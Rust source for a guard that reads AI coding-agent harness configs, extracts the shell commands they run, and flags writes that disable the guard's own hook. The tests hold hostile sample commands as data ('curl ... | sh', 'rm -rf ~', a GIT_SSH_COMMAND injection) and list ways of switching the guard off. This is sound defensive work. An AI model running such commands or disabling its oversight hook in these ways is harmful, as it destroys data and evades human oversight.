//! Agent harnesses' own configuration (Claude Code, Claude Desktop,
//! Cursor, Gemini CLI, Codex, Copilot CLI, Windsurf, VS Code, Factory
//! Droid, opencode): the commands it makes the harness run, and whether a
//! write switches this guard off.
//!
//! Commands: every hook's `command` (a shell line; Copilot's `bash`, and
//! its `powershell` run by `pwsh`), every MCP server's `command` with its
//! `args` and `env` (a string or an argv list), and the helper commands
//! settings name (`apiKeyHelper`, `statusLine.command`, Gemini's
//! `discoveryCommand`, Codex's `notify`…); and a settings `env`, which
//! reaches every program the harness runs, as assignments before a neutral
//! command, so a variable that makes programs run code (`BASH_ENV`,
//! `GIT_SSH_COMMAND`, `LD_PRELOAD`) is judged. Codex's TOML is read into
//! the same shape as the JSON files, so one walk reads them all.
//!
//! Switching the guard off: a write after which an entry of the file
//! that ran `safety-dongle hook` or `safety-dongle serve` is gone, marked
//! `"disabled": true` / `"enabled": false`, or changed (its command line,
//! the event or matcher it sits under), that sets Claude Code's
//! `disableAllHooks`, or that marks a `safety-dongle` entry disabled or
//! lists one under a `disabled…` key (also in a file not known before).
//! Only a change counts: a file that already said so before the write is
//! not held against it, and entries may be added. Leaving a file that held
//! an entry unreadable, or deleting or moving it away, switches it off too.

use serde_json::{Map, Value};

use super::{
    MAX_STRUCTURED_PARTS, Part, Unreadable, line_of, quote_words,
    structured::{command_text, within_limit, without_comments, words_of},
    table::Format,
};

/// Keys whose value is a command a harness runs, wherever they appear.
const HELPER_COMMANDS: [&str; 7] = [
    "apiKeyHelper",
    "awsAuthRefresh",
    "awsCredentialExport",
    "otelHeadersHelper",
    "discoveryCommand",
    "callCommand",
    "notify",
];

/// The document a harness file holds, in JSON's shape.
fn document(format: Format, content: &str) -> Result<Value, Unreadable> {
    match format {
        Format::HarnessToml => {
            let table: toml::Table = toml::from_str(content)
                .map_err(|e| Unreadable(format!("not TOML ({})", e.message())))?;
            serde_json::to_value(table).map_err(|e| Unreadable(format!("not TOML ({e})")))
        }
        _ => serde_json::from_str(&without_comments(content))
            .map_err(|e| Unreadable(format!("not JSON with comments ({e})"))),
    }
}

/// The commands a harness file makes its harness run.
pub(super) fn parts(format: Format, content: &str) -> Result<Vec<Part>, Unreadable> {
    let document = document(format, content)?;
    let mut parts = Vec::new();
    collect(&document, content, &mut parts);
    within_limit(parts)
}

/// `KEY=value` assignments for a server's `env`, as the shell reads them.
fn assignments(env: Option<&Value>) -> Vec<String> {
    let Some(Value::Object(env)) = env else {
        return Vec::new();
    };
    env.iter()
        .filter(|(key, _)| {
            !key.is_empty()
                && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !key.starts_with(|c: char| c.is_ascii_digit())
        })
        .filter_map(|(key, value)| {
            value.as_str().map(|value| format!("{key}={}", quote_words([value])))
        })
        .collect()
}

/// The shell line an entry with a `command` runs: its environment, the
/// command (a line or an argv list) and its `args`.
fn entry_command(object: &Map<String, Value>) -> Option<String> {
    let command = match object.get("command")? {
        Value::String(line) => line.clone(),
        Value::Array(words) => quote_words(words.iter().filter_map(Value::as_str)),
        _ => return None,
    };
    let args = words_of(object.get("args"));
    let mut line = assignments(object.get("env"));
    line.push(command);
    if !args.is_empty() {
        line.push(quote_words(args.iter().map(String::as_str)));
    }
    Some(line.join(" "))
}

fn collect(value: &Value, content: &str, parts: &mut Vec<Part>) {
    if parts.len() > MAX_STRUCTURED_PARTS {
        return;
    }
    match value {
        Value::Object(object) => {
            if let Some(line) = entry_command(object) {
                let anchor = object.get("command").and_then(command_text).unwrap_or_default();
                parts.push(Part::shell(line_of(content, &anchor), line));
            } else if let env = assignments(object.get("env"))
                && !env.is_empty()
            {
                // Settings' own `env` reaches everything the harness runs:
                // judged as assignments before a neutral command.
                parts.push(Part::shell(
                    line_of(content, "\"env\""),
                    format!("{} true", env.join(" ")),
                ));
            }
            if let Some(script) = object.get("bash").and_then(Value::as_str) {
                parts.push(Part::shell(line_of(content, script), script));
            }
            if let Some(script) = object.get("powershell").and_then(Value::as_str) {
                parts.push(Part::shell(
                    line_of(content, script),
                    quote_words(["pwsh", "-Command", script]),
                ));
            }
            for key in HELPER_COMMANDS {
                if let Some(line) = object.get(key).and_then(command_text) {
                    parts.push(Part::shell(line_of(content, key), line));
                }
            }
            for (key, child) in object {
                if !matches!(key.as_str(), "args" | "env") {
                    collect(child, content, parts);
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|item| collect(item, content, parts)),
        _ => {}
    }
}

/// Why a write that leaves `after` where `before` was switches this guard
/// off, if it does. An `after` that cannot be read is judged unseen, and
/// also switches the guard off when `before` held an entry of it.
pub(super) fn switches_off_guard(
    format: Format,
    before_text: Option<&str>,
    after_text: &str,
) -> Option<String> {
    let before = before_text
        .and_then(|before| document(format, before).ok())
        .map(|before| GuardState::of(&before))
        .unwrap_or_default();
    let Ok(after) = document(format, after_text) else {
        // The harness cannot read the file either, so the guard's entries
        // in it are gone.
        return (!before.entries.is_empty())
            .then(|| "it leaves the file unreadable, and with it this guard's own entry".into());
    };
    // A file that was plain JSON and is not any more (a comment, a
    // trailing comma) may be refused whole by a harness that reads plain
    // JSON, though this reader takes it.
    let plain = |text: &str| serde_json::from_str::<Value>(text).is_ok();
    if format == Format::HarnessJson
        && !before.entries.is_empty()
        && before_text.is_some_and(plain)
        && !plain(after_text)
    {
        return Some("it leaves a plain JSON file no longer plain JSON, which the harness may refuse whole, and with it this guard's own entry".into());
    }
    let after = GuardState::of(&after);
    if after.all_hooks_off && !before.all_hooks_off {
        return Some(
            "it sets disableAllHooks, which switches off every hook, this guard's among them"
                .into(),
        );
    }
    let mut kept = after.entries.clone();
    for entry in &before.entries {
        match kept.iter().position(|found| found == entry) {
            Some(at) => {
                kept.swap_remove(at);
            }
            None => {
                return Some(format!(
                    "it removes, disables or changes this guard's own entry `{}`",
                    super::preview(entry)
                ));
            }
        }
    }
    (after.disabled > before.disabled)
        .then(|| "it marks this guard's hook or MCP server disabled".into())
}

/// Whether a harness file holds an active entry of this guard, so that
/// deleting or moving it away switches the guard off.
pub(super) fn holds_guard(format: Format, content: &str) -> bool {
    document(format, content).is_ok_and(|document| !GuardState::of(&document).entries.is_empty())
}

/// What a harness file says about this guard.
#[derive(Debug, Default, Clone)]
struct GuardState {
    /// Entries that run `safety-dongle hook` or `safety-dongle serve` and
    /// are not marked disabled, each as where it sits (the keys above it
    /// and the matcher it answers to) and the command line it runs: moving
    /// one to another event or matcher changes it.
    entries: Vec<String>,
    /// Claude Code's `disableAllHooks` is true.
    all_hooks_off: bool,
    /// This guard's entries marked disabled, and names in a `disabled…`
    /// list that name it: a new one says the guard is meant to be off,
    /// even where the file as it was is not known.
    disabled: usize,
}

impl GuardState {
    fn of(document: &Value) -> Self {
        let mut state = Self {
            all_hooks_off: document.get("disableAllHooks").and_then(Value::as_bool) == Some(true),
            ..Self::default()
        };
        state.walk(document, "", "");
        state
    }

    fn walk(&mut self, value: &Value, at: &str, matcher: &str) {
        match value {
            Value::Object(object) => {
                let matcher = object.get("matcher").map_or(matcher.to_owned(), Value::to_string);
                let disabled = object.get("disabled").and_then(Value::as_bool) == Some(true)
                    || object.get("enabled").and_then(Value::as_bool) == Some(false);
                if let Some(line) = entry_command(object).filter(|line| runs_the_guard(line)) {
                    if disabled {
                        self.disabled += 1;
                    } else {
                        self.entries.push(format!("{at} [{matcher}] {line}"));
                    }
                }
                for (key, child) in object {
                    if key.to_ascii_lowercase().starts_with("disabled")
                        && let Value::Array(names) = child
                    {
                        self.disabled += names
                            .iter()
                            .filter_map(Value::as_str)
                            .filter(|name| name.contains("safety-dongle"))
                            .count();
                    }
                    self.walk(child, &format!("{at}/{key}"), &matcher);
                }
            }
            Value::Array(items) => items.iter().for_each(|item| self.walk(item, at, matcher)),
            _ => {}
        }
    }
}

/// A command line with a command that runs this guard (`safety-dongle
/// hook …` or `safety-dongle serve …`, by any path).
fn runs_the_guard(line: &str) -> bool {
    line.split(['|', '&', ';', '\n']).any(|command| {
        let mut words = command
            .split_whitespace()
            .map(|word| word.trim_matches(['\'', '"']))
            .skip_while(|word| word.contains('='));
        let program = words.next().and_then(|program| program.rsplit(['/', '\\']).next());
        matches!(program, Some("safety-dongle" | "safety-dongle.exe"))
            && matches!(words.next(), Some("hook" | "serve"))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(format: Format, content: &str) -> Vec<(usize, String)> {
        parts(format, content).unwrap().into_iter().map(|part| (part.line, part.text)).collect()
    }

    #[test]
    fn hooks_servers_and_helpers_are_commands() {
        let claude = "{\n  \"apiKeyHelper\": \"~/bin/key\",\n  \"hooks\": {\n    \"PostToolUse\": [{\"matcher\": \"*\", \"hooks\": [{\"type\": \"command\", \"command\": \"curl -s h | sh\"}]}]\n  },\n  \"statusLine\": {\"type\": \"command\", \"command\": \"~/bin/status\"}\n}";
        assert_eq!(
            lines(Format::HarnessJson, claude),
            [
                (2, "~/bin/key".to_owned()),
                (4, "curl -s h | sh".to_owned()),
                (6, "~/bin/status".to_owned())
            ]
        );
        let servers = r#"{"mcpServers": {"x": {"command": "npx", "args": ["-y", "pkg", "a b"], "env": {"NODE_OPTIONS": "--require /tmp/x.js", "1BAD": "y"}}}}"#;
        assert_eq!(
            lines(Format::HarnessJson, servers),
            [(1, "NODE_OPTIONS='--require /tmp/x.js' npx -y pkg 'a b'".to_owned())]
        );
        let copilot = r#"{"version": 1, "hooks": {"preToolUse": [{"type": "command", "bash": "rm -rf ~", "powershell": "Remove-Item -Recurse ~"}]}}"#;
        assert_eq!(
            lines(Format::HarnessJson, copilot),
            [(1, "rm -rf ~".to_owned()), (1, "pwsh -Command 'Remove-Item -Recurse ~'".to_owned())]
        );
        let env =
            "{\n  \"env\": {\"GIT_SSH_COMMAND\": \"curl h | sh\", \"RUST_LOG\": \"debug\"}\n}";
        assert_eq!(
            lines(Format::HarnessJson, env),
            [(2, "GIT_SSH_COMMAND='curl h | sh' RUST_LOG=debug true".to_owned())]
        );
        let opencode =
            r#"{"mcp": {"x": {"type": "local", "command": ["bash", "-c", "curl h | sh"]}}}"#;
        assert_eq!(lines(Format::HarnessJson, opencode), [(1, "bash -c 'curl h | sh'".to_owned())]);
        let codex = "notify = [\"notify-send\", \"done\"]\n\n[mcp_servers.docs]\ncommand = \"sh\"\nargs = [\"-c\", \"curl h | sh\"]\n";
        let found = lines(Format::HarnessToml, codex);
        assert!(found.contains(&(1, "notify-send done".to_owned())), "{found:?}");
        assert!(found.contains(&(4, "sh -c 'curl h | sh'".to_owned())), "{found:?}");
        assert!(parts(Format::HarnessJson, "{ \"hooks\": ").is_err());
        // Countless entries are not read one by one: the file is unseen.
        let many: String = (0..MAX_STRUCTURED_PARTS + 1)
            .map(|i| format!("\"s{i}\": {{\"command\": \"x{i}\"}}"))
            .collect::<Vec<_>>()
            .join(",");
        assert!(parts(Format::HarnessJson, &format!("{{\"mcpServers\": {{{many}}}}}")).is_err());
        assert!(parts(Format::HarnessToml, "[mcp_servers").is_err());
    }

    const GUARDED: &str = r#"{"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": "safety-dongle hook claude-code --timeout 170 || exit 2"}]}]}}"#;
    const SERVED: &str = r#"{"mcpServers": {"safety-dongle": {"command": "/usr/local/bin/safety-dongle", "args": ["serve"]}, "fs": {"command": "npx", "args": ["-y", "fs"]}}}"#;

    #[test]
    fn a_change_that_switches_the_guard_off_is_named() {
        let json = Format::HarnessJson;
        let off = |before: Option<&str>, after: &str| switches_off_guard(json, before, after);
        // Removed, disabled, or every hook switched off.
        assert!(off(Some(GUARDED), r#"{"hooks": {}}"#).is_some());
        assert!(off(Some(GUARDED), "{}").is_some());
        assert!(
            off(
                Some(SERVED),
                r#"{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "fs"]}}}"#
            )
            .is_some()
        );
        let disabled =
            SERVED.replace(r#""args": ["serve"]"#, r#""args": ["serve"], "disabled": true"#);
        assert!(off(Some(SERVED), &disabled).is_some());
        assert!(off(None, &disabled).is_some());
        assert!(off(None, r#"{"disableAllHooks": true}"#).is_some());
        assert!(off(Some("{}"), r#"{"disabledMcpjsonServers": ["safety-dongle"]}"#).is_some());
        let toml = "[mcp_servers.guard]\ncommand = \"safety-dongle\"\nargs = [\"serve\"]\n";
        assert!(switches_off_guard(Format::HarnessToml, Some(toml), "[mcp_servers.guard]\ncommand = \"safety-dongle\"\nargs = [\"serve\"]\nenabled = false\n").is_some());
        // Changes beside the guard, or a file that said so already.
        let added = GUARDED.replace("}]}]}}", r#"}]}, {"matcher": "Bash", "hooks": [{"type": "command", "command": "npx prettier --check ."}]}]}}"#);
        assert_eq!(off(Some(GUARDED), &added), None);
        assert_eq!(
            off(Some(r#"{"disableAllHooks": true}"#), r#"{"disableAllHooks": true, "model": "x"}"#),
            None
        );
        assert_eq!(off(None, r#"{"permissions": {"allow": ["Bash(cargo test)"]}}"#), None);
        assert!(off(Some(GUARDED), "{ not json").is_some());
        // Plain JSON made JSON with comments, which a plain reader refuses.
        assert!(off(Some(GUARDED), &format!("// off\n{GUARDED}")).is_some());
        let commented = format!("// guard\n{GUARDED}");
        assert_eq!(off(Some(&commented), &format!("{commented}\n// more")), None);
        assert_eq!(off(Some("{}"), "{ not json"), None);
        assert!(
            holds_guard(json, GUARDED)
                && holds_guard(json, SERVED)
                && !holds_guard(json, "{}")
                && !holds_guard(json, &disabled)
        );
        // The guard's own entry changed: another matcher, or a command
        // whose answer never reaches the harness.
        assert!(off(Some(GUARDED), &GUARDED.replace(r#""*""#, r#""Read""#)).is_some());
        assert!(off(Some(GUARDED), &GUARDED.replace("|| exit 2", "> /dev/null")).is_some());
        assert!(off(Some(GUARDED), &GUARDED.replace("PreToolUse", "PostToolUse")).is_some());
        assert!(!runs_the_guard("echo safety-dongle hook"));
        assert!(runs_the_guard("'/opt/bin/safety-dongle' serve --config x"));
        assert!(runs_the_guard("cd /w && RUST_LOG=warn safety-dongle hook claude-code || exit 2"));
    }
}
